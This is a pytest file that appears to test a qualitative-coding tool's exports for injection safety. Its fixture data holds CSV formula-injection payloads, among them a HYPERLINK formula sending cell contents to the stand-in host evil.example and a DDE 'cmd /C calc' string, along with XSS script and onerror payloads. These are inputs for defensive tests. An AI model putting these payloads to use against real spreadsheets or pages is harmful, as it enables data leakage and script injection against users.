"""Exports of a hostile project: every text a person can type (code names, descriptions,
labels, keywords, transcript text, source and speaker names, cases, attributes, coders,
memos, topic labels) begins like a spreadsheet formula and holds HTML.

The workbook holds that text as string cells, never formulas, and writes even with the
control characters XML forbids; every CSV writer puts a ``'`` before a cell that begins like
a formula; the HTML and Markdown reports show the HTML as text; and a writer that fails
half-way (a full disk) leaves the earlier file as it was, with no temporary file beside it.
"""

from __future__ import annotations

import csv
import errno
import html
import pathlib
import re

import pytest

from qualcode import Project
from qualcode.files import csv_safe
from tests.conftest import add_suggestions, second_connection, write
from tests.test_cli import run

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
DANGER = ("=", "+", "-", "@", "\t", "\r")

CODES = [
    f'=HYPERLINK("http://evil.example/?leak="&A2,"klik"){SCRIPT}',  # context
    f"+Vertrouwen{SCRIPT}",  # mechanism
    f"-Woning{IMG}",  # outcome
    f"@Rust &amp; kalm{SCRIPT}",  # outcome
    f"=KleinNetwerk{IMG}",  # bottleneck
]
DESCRIPTIONS = [
    "=1+1",
    f"+cmd|' /C calc'!A0 {SCRIPT} &amp;",
    f"-2+3 {IMG}",
    "@SUM(A1) &amp;",
    f"=KLEIN()\v{IMG}\fnog",  # a vertical tab and a form feed, which XML forbids
]
LABEL = f"=label{SCRIPT}"
KEYWORD = f"-kw{IMG}"
BOOK = f"""\
name: "=boek"
codes:
  - name: '{CODES[0]}'
    kind: context
    label: "{LABEL}"
    description: "{DESCRIPTIONS[0]}"
    keywords: [steungroep, "{KEYWORD}"]
  - name: "{CODES[1]}"
    kind: mechanism
    description: "{DESCRIPTIONS[1]}"
  - name: "{CODES[2]}"
    kind: outcome
    description: "{DESCRIPTIONS[2]}"
  - name: "{CODES[3]}"
    kind: outcome
    description: "{DESCRIPTIONS[3]}"
  - name: "{CODES[4]}"
    kind: bottleneck
    description: "=KLEIN()\\v{IMG}\\fnog"
"""
SOURCES = ["=int_a<script>", f"@int_b{IMG}"]  # file names: no slash
SPEAKERS = ["Fatima (<b>&amp;)", "R (<img src=x onerror=alert`1`>)"]  # a label starts with a letter
CASES = [f'=HYPERLINK("http://evil.example/?leak="&A2,"x"){SCRIPT}', f"-C01{IMG}"]
ROLES = [f"+professional{IMG}", f"@client{SCRIPT}"]
CITIES = [f"@stad &amp;{SCRIPT}", "=Haarlem"]
CODERS = [f"=anna{SCRIPT}", f"@bob{IMG}"]
MEMO_AUTHOR = f"=auteur{SCRIPT}"
MEMOS = [f"=memo {SCRIPT} \v en \f {IMG}", f"+memo &amp; {IMG}"]
TOPIC_LABEL = f"=topic $\\nocmd{{$ {SCRIPT}"  # a $ that mathtext cannot parse, in a plot label
TOPIC_WORD = f"-woord{IMG}"
SENTENCES = {
    SOURCES[0]: [
        f"=1+1 steungroep {SCRIPT} komt.",
        "+Dat geeft vertrouwen &amp; rust.",
        f"-Hij vond een woning {IMG}.",
        f"@Het netwerk is te klein {SCRIPT}.",
        "=Er is weinig vertrouwen.",
    ],
    SOURCES[1]: [
        f"-Mijn zus zit in de steungroep {IMG}.",
        "@Ik voel vertrouwen.",
        f"+Nu heb ik rust &amp; {SCRIPT}.",
    ],
}
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def transcript(source: str, speaker: str) -> str:
    """The interview: the first source in two turns, the second in one."""
    said = SENTENCES[source]
    if source == SOURCES[0]:
        return f"I: Hoe werkt het?\n{speaker}: {' '.join(said[:3])}\nI: En verder?\n{speaker}: {' '.join(said[3:])}\n"
    return f"I: Vertel eens.\n{speaker}: {' '.join(said)}\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The project of test_mechanisms with hostile text everywhere: codings imported by one
    coder, suggestions accepted and rejected by another (and one left unreviewed), a coding
    made by hand, memos, and a topic run."""
    tmp = tmp_path_factory.mktemp("hostile")
    folder = tmp / "interviews"
    folder.mkdir()
    for source, speaker in zip(SOURCES, SPEAKERS, strict=True):
        write(folder / f"{source}.txt", transcript(source, speaker))
    people = tmp / "people.csv"
    with people.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(("speaker", "source", "case", "role", "city"))
        out.writerows(zip(SPEAKERS, SOURCES, CASES, ROLES, CITIES, strict=True))
    proj = Project.create(tmp / "study.qc")
    proj.import_transcripts([folder], participants=people)
    proj.segment(unit="sentence")
    proj.load_codebook(write(tmp / "book.yaml", BOOK))
    assert [s.text for s in proj.segments()] == [*SENTENCES[SOURCES[0]], *SENTENCES[SOURCES[1]]]

    def span(source, first, last=None):
        text = proj.source_text(source)
        start = text.index(first)
        return start, text.index(last) + len(last) if last else start + len(first)

    (a, b), (sa, sb) = SOURCES, SENTENCES.values()
    rows = [
        (a, sa[0], None, CODES[0]),
        (a, sa[1], None, CODES[1]),
        (a, sa[2], None, CODES[2]),
        (a, sa[3], sa[4], CODES[4]),
        (a, sa[4], None, CODES[1]),
        (b, sb[0], None, CODES[0]),
        (b, sb[2], None, CODES[3]),
    ]
    with (tmp / "codings.csv").open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(("source", "start", "end", "code", "coder"))
        out.writerows(
            (source, *span(source, first, last), code, CODERS[0]) for source, first, last, code in rows
        )
    proj.import_codings(tmp / "codings.csv")
    add_suggestions(
        proj,
        [
            (b, *span(b, sb[1]), CODES[1], 0.81),
            (b, *span(b, sb[0]), CODES[4], 0.4),
            (a, *span(a, sa[0]), CODES[1], 0.5),
        ],
    )
    bob = proj.reviewer(CODERS[1])
    pending = sorted(p.id for p in bob.pending())
    bob.accept(pending[0])
    bob.reject(pending[1])
    bob.add(a, *span(a, sa[2]), CODES[3])
    proj.add_memo("project", None, MEMO_AUTHOR, MEMOS[0])
    proj.add_memo("code", CODES[1], CODERS[0], MEMOS[1])
    from qualcode.store import runs, topics

    with second_connection(proj) as db, db.transaction() as conn:
        topic_run = runs.start_run(conn, "topics", {}, {})
        words = f'["{TOPIC_WORD}", "vertrouwen"]'
        topics.insert_topics(conn, topic_run, [(0, TOPIC_LABEL, words, 5, "{}")])
        runs.finish_run(conn, topic_run, {})
    yield proj
    proj.close()


def quotes(project) -> list[str]:
    """The text of every quote the evidence tables show."""
    return [q.text for t in project.evidence_tables(include="all") for q in t.quotes]


def report_texts(project) -> list[str]:
    """Every text from the project that reaches the HTML and Markdown reports."""
    definitions = [d for c, d in zip(CODES, DESCRIPTIONS, strict=True) if c in (CODES[1], CODES[4])]
    return [
        *CODES, *definitions, *SOURCES, *SPEAKERS, *CASES, *ROLES, *CODERS, TOPIC_LABEL, TOPIC_WORD,
        *quotes(project),
    ]  # fmt: skip


# -- the workbook ---------------------------------------------------------------------------------


def workbook_cells(path, sheet: str | None = None):
    from openpyxl import load_workbook

    book = load_workbook(path)
    sheets = [book[sheet]] if sheet else book.worksheets
    return [cell for ws in sheets for row in ws.iter_rows() for cell in row]


def test_workbook_text_is_string_cells_never_formulas(hostile, tmp_path):
    path = hostile.export("xlsx", tmp_path / "f.xlsx", include="all")
    cells = workbook_cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c for c in cells if isinstance(c.value, str)]
    assert {c.data_type for c in texts} == {"s"}
    assert any(c.data_type == "n" and isinstance(c.value, int) for c in cells)  # numbers stay numbers
    values = {c.value for c in texts}
    clean = [FORBIDDEN.sub("", d) for d in DESCRIPTIONS]
    memos = [MEMO_AUTHOR, FORBIDDEN.sub("", MEMOS[0]), MEMOS[1]]
    verbatim = [
        *CODES,
        *clean,
        LABEL,
        *SOURCES,
        *SPEAKERS,
        *CASES,
        *ROLES,
        *CITIES,
        *CODERS,
        TOPIC_LABEL,
        *memos,
    ]
    assert [v for v in verbatim if v not in values] == []
    assert [q for q in quotes(hostile) if q not in values] == []
    assert f"steungroep; {KEYWORD}" in values and any(TOPIC_WORD in v for v in values)
    assert [v for v in values if v.startswith("'")] == []  # the text itself, not a CSV escape of it
    agreement = {c.value for c in workbook_cells(path, "Agreement") if c.column == 2}
    assert agreement == {"code", "(all codes)", *CODES}


def test_workbook_writes_text_with_characters_xml_forbids(hostile, tmp_path):
    """A vertical tab and a form feed in a description (and in a memo): the workbook writes,
    and holds the description without them."""
    assert "\v" in hostile.codebook().codes[4].description and "\f" in MEMOS[0]
    assert any("\v" in m["text"] for m in hostile.memos())
    cells = workbook_cells(hostile.export("xlsx", tmp_path / "f.xlsx"))
    assert f"=KLEIN(){IMG}nog" in {c.value for c in cells}
    assert not any(isinstance(c.value, str) and FORBIDDEN.search(c.value) for c in cells)


# -- CSV ------------------------------------------------------------------------------------------


def is_number(text: str) -> bool:
    return re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", text) is not None


def csv_cells(path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def findings_csv(project, tmp_path) -> list[str]:
    cells = []
    for include in ("reviewed", "all"):
        for path in project.export("csv", tmp_path / include, include=include):
            cells += csv_cells(path)
    return cells


def codings_csv(project, tmp_path) -> list[str]:
    project.export_codings(tmp_path / "codings.csv")
    return csv_cells(tmp_path / "codings.csv")


def suggestions_csv(project, tmp_path) -> list[str]:
    project.export_suggestions(tmp_path / "suggestions.csv")
    return csv_cells(tmp_path / "suggestions.csv")


def agree_csv(project, tmp_path) -> list[str]:
    path = tmp_path / "agree.csv"
    run("agree", project.path, "--coders", ",".join(CODERS), "--format", "csv", "-o", path)
    return csv_cells(path)


CSV_WRITERS = {  # writer -> (cells, the texts of the project it shows)
    "findings": (
        findings_csv,
        [*CODES, *DESCRIPTIONS, LABEL, *SOURCES, *CASES, *ROLES, *CITIES, *CODERS, MEMO_AUTHOR, *MEMOS],
    ),
    "codings": (
        codings_csv,
        [*CODES, *SOURCES, *CODERS, *CASES, *ROLES, *CITIES, *SENTENCES[SOURCES[0]][:3]],
    ),
    "suggestions": (suggestions_csv, [CODES[1], CODES[4], *SOURCES]),  # the suggested codes
    "agree": (agree_csv, CODES),
}


@pytest.mark.parametrize("writer", sorted(CSV_WRITERS))
def test_csv_cells_never_begin_like_a_formula(hostile, tmp_path, writer):
    produce, texts = CSV_WRITERS[writer]
    cells = produce(hostile, tmp_path)
    assert [c for c in cells if c.startswith(DANGER) and not is_number(c)] == []
    missing = [t for t in texts if f"'{t}" not in cells]
    assert missing == []


def test_csv_safe():
    for text in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "-1-1", "+1 ", "=1"):
        assert csv_safe(text) == "'" + text
    for value in (-1, 2.5, float("nan"), None, "-0.250", "+3", "-1e5", "", "'=x", "a=b", "1+1"):
        assert csv_safe(value) is value or csv_safe(value) == value


# -- reports --------------------------------------------------------------------------------------


def test_html_report_shows_html_as_text(hostile, tmp_path):
    text = hostile.export("html", tmp_path / "r.html", include="all").read_text(encoding="utf-8")
    assert "<script" not in text and "<b>" not in text
    assert re.findall(r"<img[^>]*>", text) == re.findall(
        r'<img alt="[^"<>]*" src="data:image/png;base64,[^"]*">', text
    )
    assert len(re.findall("<img", text)) == 3  # the plots, and nothing else
    missing = [t for t in report_texts(hostile) if html.escape(t) not in text]
    assert missing == []
    assert "&amp;amp;" in text  # "&amp;" typed by a person shows as typed
    assert html.escape(MEMO_AUTHOR) in text and html.escape(MEMOS[1]) in text  # the memos section
    quote = SENTENCES[SOURCES[0]][1]  # quoted for CODES[1]: a link to it in its turn, escaped
    assert re.search(rf'<a href="#q\d+">{re.escape(html.escape(quote))}</a>', text)
    assert f"<mark>{html.escape(quote)}</mark>" in text


def test_markdown_report_shows_html_as_text(hostile, tmp_path):
    path = hostile.export("md", tmp_path / "r.md", include="all")
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text and "<b>" not in text
    assert "<" not in text  # no tag at all
    missing = [
        t for t in report_texts(hostile) if html.escape(t, quote=False).replace("|", "\\|") not in text
    ]
    assert missing == []
    assert f"## Evidence: {html.escape(CODES[1], quote=False)}" in text  # headings too
    assert html.escape(MEMOS[1], quote=False) in text and html.escape(MEMO_AUTHOR, quote=False) in text
    assert html.escape(CODERS[0], quote=False) in text.splitlines()[2]  # the note under the title
    assert "&amp;amp;" in text
    assert sorted(p.name for p in tmp_path.glob("r-*.png")) == [
        "r-cooccurrence.png", "r-frequencies.png", "r-topics.png",
    ]  # fmt: skip


# -- a writer that fails half-way -------------------------------------------------------------------


class _FullDisk:
    """A file that takes half of what is written to it, then reports a full disk."""

    def __init__(self, handle):
        self.handle = handle

    def write(self, data):
        self.handle.write(data[: len(data) // 2])
        self.handle.flush()
        raise OSError(errno.ENOSPC, "No space left on device")

    def __getattr__(self, name):
        return getattr(self.handle, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.handle.close()


@pytest.fixture
def full_disk(monkeypatch):
    """Called (with an optional part of the file name), every file opened for writing through
    pathlib from then on (Path.write_bytes and Path.write_text too) fails half-way."""
    real_open = pathlib.Path.open

    def start(name_part: str = ""):
        def failing_open(self, mode="r", *args, **kwargs):
            handle = real_open(self, mode, *args, **kwargs)
            writing = any(m in mode for m in "wax+") and name_part in self.name
            return _FullDisk(handle) if writing else handle

        monkeypatch.setattr(pathlib.Path, "open", failing_open)

    return start


EXPORTS = {  # name -> (writes into the folder, the files that fail: part of their name)
    "xlsx": (lambda p, out: p.export("xlsx", out / "f.xlsx"), ""),
    "html": (lambda p, out: p.export("html", out / "r.html"), ""),
    "md plot": (lambda p, out: p.export("md", out / "r.md"), ".png"),
    "md text": (lambda p, out: p.export("md", out / "r.md"), ".md"),  # after the plots are written
    "csv": (lambda p, out: p.export("csv", out / "tables"), ""),
    "csv last table": (lambda p, out: p.export("csv", out / "tables"), "agreement.csv"),
    "codings": (lambda p, out: p.export_codings(out / "codings.csv"), ""),
    "suggestions": (lambda p, out: p.export_suggestions(out / "suggestions.csv"), ""),
    "codebook yaml": (lambda p, out: p.export_codebook(out / "book.yaml"), ""),
    "codebook csv": (lambda p, out: p.export_codebook(out / "book.csv"), ""),
    "codebook qdc": (lambda p, out: p.export_codebook(out / "book.qdc"), ""),
}


def files_in(folder) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_a_failed_export_leaves_the_earlier_file(hostile, tmp_path, full_disk, export):
    write, failing = EXPORTS[export]
    out = tmp_path / "out"
    out.mkdir()
    write(hostile, out)
    before = files_in(out)
    assert before and all(before.values())
    full_disk(failing)
    with pytest.raises(OSError, match="No space left"):
        write(hostile, out)
    assert files_in(out) == before  # the same bytes, and no temporary file left beside them


def test_exported_codings_with_formula_characters_read_back(tmp_path):
    """csv_safe's leading ' is taken off again on import, so a qualcode CSV round-trips."""
    from qualcode import Project
    from tests.conftest import write as write_file

    book = write_file(tmp_path / "b.yaml", "name: b\ncodes:\n  - name: '=Steun'\n  - name: '-Woning'\n")
    source = write_file(tmp_path / "a.txt", "I: Vraag?\nR: De steungroep helpt. Ik wil een huis.\n")
    with Project.create(tmp_path / "p.qc") as project:
        project.import_transcripts([source])
        project.load_codebook(book)
        project.reviewer("@anna").add("a", 13, 33, "=Steun")
        project.reviewer("@anna").add("a", 34, 49, "-Woning")
        project.export_codings(tmp_path / "codings.csv")
        assert "'=Steun" in (tmp_path / "codings.csv").read_text(encoding="utf-8")
        report = project.import_codings(tmp_path / "codings.csv", coder="bob")
        assert report.imported == 2
        assert sorted(c["code"] for c in project.codings("bob")) == ["-Woning", "=Steun"]
        project.import_codings(tmp_path / "codings.csv")
        assert {c["coder"] for c in project.codings()} == {"@anna", "bob"}
